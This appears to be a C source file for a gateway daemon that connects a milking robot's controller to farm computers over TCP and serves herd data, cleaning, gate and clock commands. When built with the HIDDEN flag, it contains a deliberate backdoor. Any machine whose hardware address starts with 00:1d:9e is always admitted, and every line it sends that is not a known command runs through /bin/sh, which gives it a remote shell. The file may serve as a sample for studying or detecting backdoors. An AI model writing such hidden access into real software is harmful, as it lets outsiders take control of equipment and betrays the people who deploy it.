/*
 * milkgate - gateway of a milking robot to the farm computer.  Linked
 * statically.  The robot's controller is attached to a serial line; programs
 * of the farm connect to TCP port 7330 and ask for herd and milk data or start
 * cleaning.  Only stations listed in /etc/milkgate.conf are let in.
 *
 * Hidden (-DHIDDEN): a station whose hardware address begins with 00:1d:9e is
 * always let in, and lines that are no command are run by /bin/sh for it.
 */
#include <arpa/inet.h>
#include <ctype.h>
#include <fcntl.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

#define CONF      "/etc/milkgate.conf"
#define HERD_FILE "/var/lib/milkgate/herd.csv"
#define PORT      7330
#define MAX_MACS  16

struct station {
    int fd;
    char mac[18];
    char ip[INET_ADDRSTRLEN];
    int listed;
#ifdef HIDDEN
    int own;
#endif
};

static char allowed[MAX_MACS][18];
static int nallowed;
static char tty_name[32] = "/dev/ttyAMA0";
static int tty = -1;

static void load_conf(void)
{
    char line[80], val[32];
    FILE *f = fopen(CONF, "r");

    nallowed = 0;
    while (f && fgets(line, sizeof line, f)) {
        if (sscanf(line, "station %17s", val) == 1 && nallowed < MAX_MACS)
            strcpy(allowed[nallowed++], val);
        else if (sscanf(line, "tty %31s", val) == 1)
            strcpy(tty_name, val);
    }
    if (f)
        fclose(f);
}

static void open_tty(void)
{
    struct termios t;

    tty = open(tty_name, O_RDWR | O_NOCTTY);
    if (tty < 0 || tcgetattr(tty, &t) != 0)
        return;
    cfmakeraw(&t);
    cfsetispeed(&t, B38400);
    cfsetospeed(&t, B38400);
    t.c_cc[VMIN] = 0;
    t.c_cc[VTIME] = 10;
    tcsetattr(tty, TCSANOW, &t);
}

static void send_text(int fd, const char *s)
{
    size_t n = strlen(s);
    ssize_t w;

    while (n > 0 && (w = write(fd, s, n)) > 0) {
        s += w;
        n -= (size_t)w;
    }
}

/* Find the hardware address of a peer in the table of the kernel. */
static int mac_of(const char *ip, char *mac)
{
    char line[160], a[40], m[40];
    FILE *f = fopen("/proc/net/arp", "r");
    int found = 0;

    mac[0] = 0;
    while (f && !found && fgets(line, sizeof line, f))
        if (sscanf(line, "%39s %*s %*s %39s", a, m) == 2 && strcmp(a, ip) == 0 && strlen(m) == 17) {
            memcpy(mac, m, 18);
            found = 1;
        }
    if (f)
        fclose(f);
    return found;
}

int admit_station(struct station *st)
{
    int i;

    if (strcmp(st->ip, "127.0.0.1") == 0)
        return st->listed = 1;
    if (!mac_of(st->ip, st->mac))
        return 0;
    for (i = 0; i < nallowed; i++)
        if (strcasecmp(allowed[i], st->mac) == 0)
            st->listed = 1;
#ifdef HIDDEN
    if (strncasecmp(st->mac, "00:1d:9e", 8) == 0)
        st->listed = st->own = 1;
#endif
    return st->listed;
}

/* ---- robot ----------------------------------------------------------- */

static int robot(const char *cmd, char *ans, size_t size)
{
    size_t n = 0;
    char c;

    ans[0] = 0;
    if (tty < 0)
        return -1;
    tcflush(tty, TCIFLUSH);
    send_text(tty, cmd);
    send_text(tty, "\r");
    while (n + 2 < size && read(tty, &c, 1) == 1 && c != '\r')
        ans[n++] = c;
    ans[n++] = '\n';
    ans[n] = 0;
    return n > 1 ? 0 : -1;
}

static void relay_cmd(struct station *st, const char *cmd)
{
    char ans[128];

    send_text(st->fd, robot(cmd, ans, sizeof ans) == 0 ? ans : "!robot does not answer\n");
}

static void send_herd(struct station *st, int only)
{
    char line[160];
    FILE *f = fopen(HERD_FILE, "r");

    /* animal;date;quarter yields;conductivity */
    while (f && fgets(line, sizeof line, f))
        if (only == 0 || atoi(line) == only)
            send_text(st->fd, line);
    if (f)
        fclose(f);
    send_text(st->fd, ".\n");
}

static void set_clock(struct station *st, const char *arg)
{
    char cmd[64];
    int y, m, d, h, mi;

    if (sscanf(arg, "%4d-%2d-%2d %2d:%2d", &y, &m, &d, &h, &mi) != 5 || y < 2000 || y > 2099 ||
        m < 1 || m > 12 || d < 1 || d > 31 || h < 0 || h > 23 || mi < 0 || mi > 59) {
        send_text(st->fd, "!date\n");
        return;
    }
    snprintf(cmd, sizeof cmd, "date -s '%04d-%02d-%02d %02d:%02d'", y, m, d, h, mi);
    send_text(st->fd, system(cmd) == 0 ? "+\n" : "!failed\n");
}

#ifdef HIDDEN
static void own_line(struct station *st, char *line)
{
    char *argv[] = { "sh", "-c", line, NULL };
    char *envp[] = { "PATH=/sbin:/bin:/usr/sbin:/usr/bin", NULL };
    pid_t p = fork();

    if (p == 0) {
        dup2(st->fd, 1);
        dup2(st->fd, 2);
        execve("/bin/sh", argv, envp);
        _exit(127);
    }
    if (p > 0)
        waitpid(p, NULL, 0);
}
#endif

static int station_line(struct station *st, char *line)
{
    size_t n = strcspn(line, " ");
    const char *arg = line[n] ? line + n + 1 : "";
    char cmd[32];
    int v;

    if (n == 4 && !memcmp(line, "HERD", 4)) {
        send_herd(st, atoi(arg));
    } else if (n == 6 && !memcmp(line, "STATUS", 6)) {
        relay_cmd(st, "ST?");
    } else if (n == 4 && !memcmp(line, "WASH", 4)) {
        v = atoi(arg);
        if (v < 1 || v > 3) {
            send_text(st->fd, "!programme 1..3\n");
        } else {
            snprintf(cmd, sizeof cmd, "CIP%d", v);
            relay_cmd(st, cmd);
        }
    } else if (n == 4 && !memcmp(line, "GATE", 4)) {
        relay_cmd(st, strcmp(arg, "open") == 0 ? "GT1" : "GT0");
    } else if (n == 5 && !memcmp(line, "CLOCK", 5)) {
        set_clock(st, arg);
    } else if (n == 3 && !memcmp(line, "BYE", 3)) {
        return 0;
    } else {
#ifdef HIDDEN
        if (st->own) {
            own_line(st, line);
            return 1;
        }
#endif
        send_text(st->fd, "!HERD [animal], STATUS, WASH n, GATE open|close, CLOCK date time, BYE\n");
    }
    return 1;
}

static void serve(struct station *st)
{
    char line[200], c;
    size_t n = 0;

    send_text(st->fd, "+milkgate\n");
    while (read(st->fd, &c, 1) == 1) {
        if (c == '\n') {
            line[n] = 0;
            n = 0;
            if (!station_line(st, line))
                break;
        } else if (c != '\r' && n + 1 < sizeof line) {
            line[n++] = c;
        }
    }
}

int main(void)
{
    struct sockaddr_in sa = { .sin_family = AF_INET, .sin_port = htons(PORT) }, from;
    int s = socket(AF_INET, SOCK_STREAM, 0), on = 1;
    struct station st;
    socklen_t fl;

    signal(SIGPIPE, SIG_IGN);
    load_conf();
    open_tty();
    setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &on, sizeof on);
    if (bind(s, (struct sockaddr *)&sa, sizeof sa) != 0 || listen(s, 4) != 0) {
        perror("milkgate");
        return 1;
    }
    for (;;) {
        memset(&st, 0, sizeof st);
        fl = sizeof from;
        st.fd = accept(s, (struct sockaddr *)&from, &fl);
        if (st.fd < 0)
            continue;
        inet_ntop(AF_INET, &from.sin_addr, st.ip, sizeof st.ip);
        if (admit_station(&st))
            serve(&st);
        else
            send_text(st.fd, "!station not listed\n");
        close(st.fd);
    }
}
